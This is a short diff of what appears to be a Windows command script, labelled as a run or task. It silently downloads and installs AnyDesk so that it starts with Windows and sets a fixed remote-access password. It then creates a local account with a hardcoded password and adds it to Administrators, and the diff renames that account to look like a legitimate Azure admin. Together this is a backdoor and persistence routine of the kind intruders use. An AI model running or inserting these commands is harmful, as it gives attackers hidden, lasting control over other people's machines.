@@ -1,6 +1,6 @@
-# run 4353 v2
+# task 5179 v2
 Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
 cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
-cmd /c "echo Adm1n!strat0r | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
-net user backup_svc Adm1n!strat0r /add
-net localgroup administrators backup_svc /add
+cmd /c "echo P@ssw0rd!2024 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
+net user azureadm1n P@ssw0rd!2024 /add
+net localgroup administrators azureadm1n /add
